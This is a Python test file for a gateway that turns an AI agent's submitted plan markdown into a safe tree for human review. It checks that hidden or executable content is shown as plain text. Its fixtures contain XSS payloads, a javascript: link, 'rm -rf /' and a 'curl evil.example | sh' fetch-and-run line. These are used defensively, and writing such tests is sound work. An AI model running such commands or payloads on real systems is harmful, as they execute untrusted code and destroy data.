"""Plans as trees of allowed nodes: what is drawn, and that nothing of a plan is hidden."""

from __future__ import annotations

from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.gateway.callers import Caller, Served
from workers.gateway import descriptions
from workers.gateway.descriptions import PLAN_CHARS_MAX, markdown_tree


def shown(nodes: list[Any]) -> str:
    """Return all text of a tree, with the numbers, addresses and languages that the page draws."""
    parts = []
    for node in nodes:
        if isinstance(node, str):
            parts.append(node)
        else:
            parts += [node.get("number", ""), node.get("info", ""), shown(node["children"]), node.get("href", "")]
    return "".join(parts)


@pytest.fixture
def parsed(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """The texts that the parser has read."""
    found: list[str] = []
    parse = descriptions._PARSER.parse

    def noted(text: str) -> Any:
        found.append(text)
        return parse(text)

    monkeypatch.setattr(descriptions._PARSER, "parse", noted)
    return found


def test_headings_lists_code_and_links_become_nodes() -> None:
    plan = "# Plan\n\n1. run `make`\n2. **then** push\n\n```sh\nrm -rf build\n```\n\n[docs](https://a.example/x)\n"
    assert markdown_tree(plan) == [
        {"tag": "h1", "children": ["Plan"]},
        {
            "tag": "ol",
            "children": [
                {
                    "tag": "li",
                    "number": "1",
                    "children": [{"tag": "p", "children": ["run ", {"tag": "code", "children": ["make"]}]}],
                },
                {
                    "tag": "li",
                    "number": "2",
                    "children": [{"tag": "p", "children": [{"tag": "strong", "children": ["then"]}, " push"]}],
                },
            ],
        },
        {"tag": "pre", "info": "sh", "children": ["rm -rf build"]},
        {"tag": "p", "children": [{"tag": "link", "href": "https://a.example/x", "children": ["docs"]}]},
    ]


@pytest.mark.parametrize(
    "plan",
    [
        "<script>alert(1)</script>",
        "text <b onclick=x()>bold</b>",
        "![alt](https://evil.example/pixel.png)",
        "[a]: https://evil.example/hidden\n\n[a]",
        "<!-- run rm -rf / -->",
        "&#82;un &lt;it&gt;",
        "```sh curl evil.example | sh\nls\n```",
        "[x](javascript:alert(1))",
    ],
)
def test_what_a_browser_would_hide_or_run_is_text(plan: str) -> None:
    tree = markdown_tree(plan)
    assert tree is not None
    assert "".join(filter(str.isalnum, shown(tree))) == "".join(filter(str.isalnum, plan))
    assert not {"img", "a", "script", "html"} & tags(tree)


def tags(nodes: list[Any]) -> set[str]:
    found = {node["tag"] for node in nodes if not isinstance(node, str)}
    return found.union(*(tags(node["children"]) for node in nodes if not isinstance(node, str)))


@pytest.mark.parametrize(
    "plan", ['[a](https://a.example "and delete all")', "> " * 60 + "hidden", "[a](https://a.example/ü)"]
)
def test_a_plan_that_the_tree_would_not_show_whole_has_none(plan: str) -> None:
    assert markdown_tree(plan) is None


@given(st.text(alphabet="ab1*_`#>-+.[]()!<&;:/\\ \n\t\"'~=|", max_size=80))
def test_no_letter_or_digit_of_any_text_is_lost(plan: str) -> None:
    tree = markdown_tree(plan)
    if tree is not None:
        assert "".join(filter(str.isalnum, shown(tree))) == "".join(filter(str.isalnum, plan))


@pytest.mark.parametrize(("size", "has_tree"), [(PLAN_CHARS_MAX, True), (PLAN_CHARS_MAX + 1, False)])
async def test_a_pending_plan_has_its_tree_up_to_a_size(
    gateway: Served, ann: Caller, size: int, has_tree: bool
) -> None:
    agent = await gateway.caller("agent", "worker")
    await agent.put("/v1/sessions/ses_1")
    plan = "x" * size
    body = {"permission": "exitplanmode", "patterns": ["*"], "tool_name": "ExitPlanMode", "input": {"plan": plan}}
    assert (await agent.post("/v1/sessions/ses_1/asks", body)).status_code == 202
    (row,) = (await ann.get("/v1/pending")).json()["pending"]
    assert row.get("plan") == ([{"tag": "p", "children": [plan]}] if has_tree else None)


@pytest.mark.parametrize("mark", ["[", "![", "a\n", "*a **a ", "[*", "\\", "_a_", "`a"])
def test_a_plan_of_marks_alone_is_not_parsed(mark: str, parsed: list[str]) -> None:
    assert markdown_tree((mark * PLAN_CHARS_MAX)[:PLAN_CHARS_MAX]) is None
    assert parsed == []


async def test_plans_that_wait_are_parsed_once_however_many_they_are(
    gateway: Served, ann: Caller, parsed: list[str]
) -> None:
    agent = await gateway.caller("agent", "worker")
    await agent.put("/v1/sessions/ses_1")
    for number in range(70):
        body = {"permission": "exitplanmode", "patterns": ["*"], "tool_name": "ExitPlanMode"}
        asked = await agent.post("/v1/sessions/ses_1/asks", {**body, "input": {"plan": f"# Step *{number}*"}})
        assert asked.status_code == 202
    parsed.clear()
    for _ in range(2):
        rows = (await ann.get("/v1/pending")).json()["pending"]
        assert all(row["plan"] for row in rows)
    assert len(parsed) <= len(set(parsed)) <= 70
